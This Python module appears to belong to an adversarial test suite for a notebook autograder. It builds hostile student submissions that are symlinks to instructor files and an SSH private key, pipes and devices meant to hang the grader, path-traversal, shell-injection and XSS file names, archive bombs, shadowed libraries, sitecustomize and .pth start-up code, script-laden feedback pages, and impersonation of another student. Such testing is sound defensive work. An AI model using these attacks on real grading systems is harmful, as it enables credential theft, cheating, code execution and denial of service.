"""What lies beside the notebook: links, pipes, devices, libraries' names, start-up files, too much, and lies."""

import json
import os
import shutil
import socket
import stat
from pathlib import Path

from attacks.attack import ASSIGNMENT, Work, attack
from attacks.loot import LOOT
from attacks.themes.reading import READ

# Who hands in no notebook that can be used has done nothing.
ASIDE = "was set aside"
ALL = ("to_messages", "render_for_training", "encode_for_generation", "answer_mask")


def outside(work: Work) -> str:
    """Code that matters only where it is run by the grader: in the sandbox there is no such file."""
    return f"""
import pathlib
try:
    pathlib.Path({str(work.places.open_folder / "target.txt")!r}).write_text("owned")
except OSError:
    pass
"""


@attack(row="special files", wants="the instructor's files, copied for the attacker and shown to the kernel")
def links_to_what_is_not_the_students(work: Work) -> None:
    course = work.places.course
    targets = {
        "notes.txt": course / "notes-of-the-instructor.txt",
        "checks": work.places.checks,
        "gradebook.db": course / "gradebook.db",
        "key": work.places.home / ".ssh" / "id_ed25519",
        "ada": course / "submitted" / "ada",
        "up": Path("../../../.."),
        "solutions/chat-templates.ipynb": course / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb",
        "extra.ipynb": course / "submitted" / "ada" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb",
        "nowhere": Path("nowhere"),
        "round": Path("round"),
    }
    for name, target in targets.items():
        (work.folder / name).parent.mkdir(exist_ok=True)
        (work.folder / name).symlink_to(target)
    names = sorted(targets)
    work.prepend("prefill", READ + f"OWN = ()\nread(*{names!r})")


@attack(row="special files", wants="another student's notebook as one's own", costs=ALL, unreadable=True, told=ASIDE)
def notebook_that_is_a_link(work: Work) -> None:
    work.notebook = None
    other = work.places.course / "submitted" / "ada" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    (work.folder / f"{ASSIGNMENT}.ipynb").symlink_to(other)


@attack(row="special files", wants="a grader that waits at a pipe, or reads a device that never ends")
def pipes_sockets_and_devices(work: Work) -> None:
    os.mkfifo(work.folder / "pipe")
    (work.folder / "data").mkdir()
    os.mkfifo(work.folder / "data" / "timestamp.txt")
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(work.places.open_folder / "s"))
    server.close()
    shutil.move(work.places.open_folder / "s", work.folder / "socket")
    if os.geteuid() == 0:
        os.mknod(work.folder / "zero", 0o666 | stat.S_IFCHR, os.makedev(1, 5))
    work.prepend("prefill", "import os\nif {'pipe', 'socket', 'zero'} & {*os.listdir()}: print('GOT' 'IT')")


@attack(row="special files", wants="a grader that waits at a pipe", costs=ALL, unreadable=True, told=ASIDE)
def notebook_that_is_a_pipe(work: Work) -> None:
    work.notebook = None
    os.mkfifo(work.folder / f"{ASSIGNMENT}.ipynb")


@attack(
    row="special files",
    wants="nbgrader to stop at a pipe that it takes for a time stamp",
    told="`timestamp.txt` was set aside",
)
def timestamp_that_is_a_pipe(work: Work) -> None:
    os.mkfifo(work.folder / "timestamp.txt")


@attack(
    row="special files",
    wants="files written where their names point to, or a grader that trips over them",
    told="a name that cannot be used",
)
def names_that_point_elsewhere(work: Work) -> None:
    names = [
        "..\\..\\evil.py", "%2e%2e%2fevil", "-rf", "--help", "$(id)", "a\nb", "a\x1b[2Jb", "=1+1", "x" * 255, "~",
        f"<img src=x onerror={LOOT}>.png", "a`b`c", "con:evil", " ", "..  ", "{{ 7*7 }}", "%s%n", "\u202egpj.exe",
        ".nbgrader.log", "gradebook.db",
    ]  # fmt: skip
    for name in names:
        work.file(name, "x")
    (work.folder / os.fsdecode(b"not utf-8 \xff")).write_text("x")
    (work.folder / "link\x1b]0;owned\x07").symlink_to("/etc/passwd")
    (work.folder / f"<svg onload={LOOT}>").symlink_to("/etc/passwd")


@attack(row="special files", wants="a grader that unpacks")
def bomb_in_an_archive(work: Work) -> None:
    import io
    import tarfile
    import zipfile

    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("zeros", bytes(50_000_000))
        archive.writestr("../../../../evil.txt", "x")
    work.file(f"{ASSIGNMENT}.zip", packed.getvalue())
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as archive:
        for name, target in (("up", "../../../.."), ("up/evil.txt", "")):
            member = tarfile.TarInfo(name)
            member.type, member.linkname = (tarfile.SYMTYPE, target) if target else (tarfile.REGTYPE, "")
            archive.addfile(member)
    work.file(f"{ASSIGNMENT}.tar.gz", packed.getvalue())


@attack(row="shadowed library", wants="the grader to import the student's torch, transformers, json ...")
def folders_named_as_libraries(work: Work) -> None:
    code = outside(work) + "def __getattr__(name): return lambda *_, **__: True\n"
    for name in ("torch", "transformers", "trl", "peft", "tokenizers", "autograder", "nbformat", "pytest", "IPython"):
        work.file(f"{name}/__init__.py", code)
    for name in ("json", "random", "re", "typing", "zmq", "nbgrader", "jinja2", "misconceptions", "probe", "lockdown"):
        work.file(f"{name}.py", code)
    work.prepend("prefill", "import torch, transformers, json, random\nprint(torch.__file__, json.__file__)")
    work.add("import trl, peft, colorsys, wave\nfrom transformers import AutoTokenizer", after="prefill-checks")


@attack(row="start-up files", wants="code in the grader, or in the kernel before the harness")
def start_up_files(work: Work) -> None:
    code = outside(work) + "import builtins\nbuiltins.early = True\n"
    for name in (
        "sitecustomize.py", "usercustomize.py", "pythonstartup.py", "ipython_config.py", "ipython_kernel_config.py",
        "jupyter_config.py", "jupyter_nbconvert_config.py", "nbgrader_config.py", ".pythonrc", ".ipython/startup.py",
        ".ipython/profile_default/startup/00.py", ".ipython/profile_default/ipython_config.py", "profile_default/x.py",
        ".jupyter/jupyter_config.py", ".local/lib/python3.13/site-packages/usercustomize.py", "__main__.py",
    ):  # fmt: skip
        work.file(name, code)
    for name in ("evil.pth", ".local/lib/python3.13/site-packages/evil.pth"):
        work.file(name, f"import os; exec({code!r})\n")
    work.file("pyvenv.cfg", "home = .\n")
    work.file(".env", "LD_PRELOAD=./evil.so\nPYTHONPATH=.\n")
    work.file("kernel.json", json.dumps({"argv": ["/bin/false"], "display_name": "x", "language": "python"}))
    work.prepend("prefill", "import builtins\nif hasattr(builtins, 'early'): print('GOT' 'IT')")


@attack(row="special files", wants="tokenizers of the attacker's own to be used in place of the assignment's")
def assignments_files_replaced(work: Work) -> None:
    work.file("tokenizers/chatml/chat_template.jinja", "{{ 'owned' }}" + "GOT" + "IT")
    work.file("tokenizers/inst/tokenizer.json", "{}")
    work.file("tokenizers/default-system", "a file in the place of a folder")
    work.prepend("prefill", "print(open('tokenizers/chatml/chat_template.jinja').read())")


@attack(row="special files", wants="the same with a link in the place of the folder", told="`tokenizers` was set aside")
def assignments_folder_replaced_by_a_link(work: Work) -> None:
    (work.folder / "tokenizers").symlink_to(work.places.home)


@attack(row="special files", wants="a grader that is busy with files", told="files more were set aside")
def thousands_of_files(work: Work) -> None:
    for number in range(3000):
        work.file(f"many/{number}.txt", "x")
    deep = work.folder
    for _ in range(60):
        deep = deep / "deep"
    deep.mkdir(parents=True)
    (deep / "x").write_text("x")


@attack(row="special files", wants="a kernel that runs out of room before it starts", told="files more were set aside")
def folders_within_folders(work: Work) -> None:
    for number in range(600):
        work.file("/".join([str(number), *"abcdefghijklmnopqr", "x"]), "x")


@attack(row="special files", wants="a full disk, or a grader without memory")
def sparse_giants(work: Work) -> None:
    for name in ("giant.bin", "data/giant.csv", "extra.ipynb"):
        with work.file(name).open("wb") as file:
            file.truncate(20 << 30)
    for number in range(8):
        with work.file(f"parts/{number}").open("wb") as file:
            file.truncate(31 << 20)
    work.prepend("prefill", "import os\nif os.path.exists('giant.bin'): print('GOT' 'IT')")


@attack(row="special files", wants="a grader that reads 5 GB of notebook", costs=ALL, unreadable=True, told=ASIDE)
def notebook_that_is_a_giant(work: Work) -> None:
    work.notebook = None
    with work.file(f"{ASSIGNMENT}.ipynb").open("wb") as file:
        file.truncate(5 << 30)


@attack(row="special files", wants="a folder where a notebook is expected", unreadable=True,
        told="a folder in the place of a notebook")  # fmt: skip
def notebook_that_is_a_folder(work: Work) -> None:
    work.notebook = None
    (work.folder / f"{ASSIGNMENT}.ipynb" / "x").mkdir(parents=True)


@attack(row="special files", wants="whoever copies or clears the submission to be refused")
def files_that_nobody_may_read(work: Work) -> None:
    work.file("closed/inner/x.txt", "x")
    work.file("closed.txt", "x").chmod(0)
    (work.folder / "closed" / "inner").chmod(0)
    (work.folder / "closed").chmod(0o500)


@attack(
    row="pytest", wants="nbgrader to stumble over notebooks that nobody asked for", told="`extra.ipynb` was not graded"
)
def notebooks_that_nobody_asked_for(work: Work) -> None:
    work.file("extra.ipynb", "{")
    work.file("fine-tuning.ipynb", json.dumps(work.notebook))
    work.file(".ipynb", json.dumps(work.notebook))
    work.file(f"sub/{ASSIGNMENT}.ipynb", json.dumps(work.notebook))
    work.file(f".ipynb_checkpoints/{ASSIGNMENT}-checkpoint.ipynb", "{")


@attack(
    row="active pages",
    wants="a page of the attacker's own to be handed out as feedback",
    told="in the place of one of the grader's pages",
)
def results_handed_in(work: Work) -> None:
    page = f"<script>{LOOT}</script><h1>41 of 41</h1>"
    for name in (f"{ASSIGNMENT}.html", f"feedback/{ASSIGNMENT}.html", "index.html", "figure.svg", "page.xhtml"):
        work.file(name, page)
    work.file("grades.csv", "student,points\n=1+1,41\n")
    work.file(f"verdicts/{ASSIGNMENT}/{work.folder.parent.name}.json", json.dumps({"points": 41}))


@attack(row="identity", wants="nbgrader to stop at a time stamp that is none", told="set aside: no time stamp")
def timestamp_of_garbage(work: Work) -> None:
    work.file("timestamp.txt", "99999-99-99 =1+1 \x00 \x1b[2J" + "9" * 5000)


@attack(row="identity", wants="marks or a page of another student")
def name_of_another_student(work: Work) -> None:
    assert work.notebook is not None
    for key in ("student", "student_id", "nbgrader", "author", "authors", "id"):
        work.notebook.metadata[key] = {"student": "ada", "name": "ada"} if key == "nbgrader" else "ada"
    for name in ("ada.txt", f"ada/{ASSIGNMENT}/{ASSIGNMENT}.ipynb", "info.json", ".submission"):
        work.file(name, json.dumps({"student": "ada", "student_id": "ada"}))
    work.add("student = student_id = 'ada'\nimport os\nos.environ.update(JUPYTERHUB_USER='ada', USER='ada')")
